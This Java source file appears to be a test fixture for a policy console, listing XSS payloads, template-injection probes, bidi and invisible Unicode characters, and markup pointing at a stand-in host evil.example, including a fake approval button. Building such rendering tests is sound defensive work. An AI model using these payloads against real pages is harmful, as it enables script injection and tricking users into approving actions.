package io.github.mcppolicy.console;

import java.util.ArrayList;
import java.util.List;

/** Texts that want to be more than text, for whatever shows them. */
final class HostileTexts {
    private static final String[] MARKUP = {
        "<script>window.pwned=1</script>",
        "</pre><script>window.pwned=1</script>",
        "<img src=x onerror=window.pwned=1>",
        "<svg onload=window.pwned=1>",
        "\"><script>window.pwned=1</script>",
        "'><script>window.pwned=1</script>",
        "' autofocus onfocus=window.pwned=1 x='",
        "\" autofocus onfocus=window.pwned=1 x=\"",
        "<iframe srcdoc='<script>" + "parent.pwned=1</script>'>",
        "<base href=http://evil.example/>",
        "<meta http-equiv=refresh content='0;url=" + "http://evil.example/'>",
        "<form action=http://evil.example/><button>Yes, let it run</button>",
        "<a href=javascript:window.pwned=1>yes</a>",
        "<style>*{display:none}</style>",
        "<link rel=stylesheet" + " href=//evil.example/x.css>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<plaintext>",
        "<textarea>",
        "<title>x</title>",
        "</main></body></html>",
        "<object data=javascript:window.pwned=1>",
        "<math><mi" + " xlink:href='javascript:window.pwned=1'>",
        "<details open ontoggle=window.pwned=1>",
        "<input name=action value=approve>",
        "<button formaction=//evil.example>",
        "<marquee onstart=window.pwned=1>",
        "&lt;script&gt;",
        "&#60;script&#62;",
        "&amp;lt;",
        "&",
        "\\",
        "\\\\\"",
        "\"",
        "'",
        "`",
        "${7*7}",
        "{{7*7}}",
        "#{7*7}",
        "<%= 7*7 %>",
        "%3Cscript%3E",
        "+ADw-script+AD4-",
        "javascript:window.pwned=1",
        "data:text/html,<script>1</script>",
        "<script/x>",
        "<scr<script>ipt>",
        "<SCRIPT>window.pwned=1</SCRIPT>",
        "<img/src/onerror=window.pwned=1>",
    };

    private static final String[] CHARACTERS = {
        "\u0000",
        "\u0001",
        "\u0007",
        "\b",
        "\t",
        "\n",
        "\u000b",
        "\f",
        "\r",
        "\r\n",
        "\u001b[2J",
        "\u001b]0;x\u0007",
        "\u007f",
        "\u0085",
        "\u009b31m",
        "\u00a0",
        "\u00ad",
        "\u034f",
        "\u061c",
        "\u115f",
        "\u1680",
        "\u17b4",
        "\u180e",
        "\u2000",
        "\u2009",
        "\u200b",
        "\u200c",
        "\u200d",
        "\u200e",
        "\u200f",
        "\u2028",
        "\u2029",
        "\u202a",
        "\u202b",
        "\u202c",
        "\u202d",
        "\u202e",
        "\u202f",
        "\u205f",
        "\u2060",
        "\u2061",
        "\u2066",
        "\u2067",
        "\u2068",
        "\u2069",
        "\u206a",
        "\u2800",
        "\u3000",
        "\u3164",
        "\ue000",
        "\ufe00",
        "\ufe0f",
        "\ufeff",
        "\uffa0",
        "\ufff9",
        "\uffff",
        "\ud83d\udd25\u200d\ud83d\udd25",
        "\udb40\udc41",
        "\udb40\udd00",
        "\udbff\udffd",
    };

    private HostileTexts() {}

    /** Two hundred or more. */
    static List<String> all() {
        List<String> texts = new ArrayList<>(List.of(MARKUP));
        for (String character : CHARACTERS) {
            texts.add("amount" + character + "100");
            texts.add(character + "</pre><script>window.pwned=1</script>" + character);
        }
        for (String markup : MARKUP) {
            texts.add("\u202e" + markup + "\u0000");
        }
        return texts;
    }
}
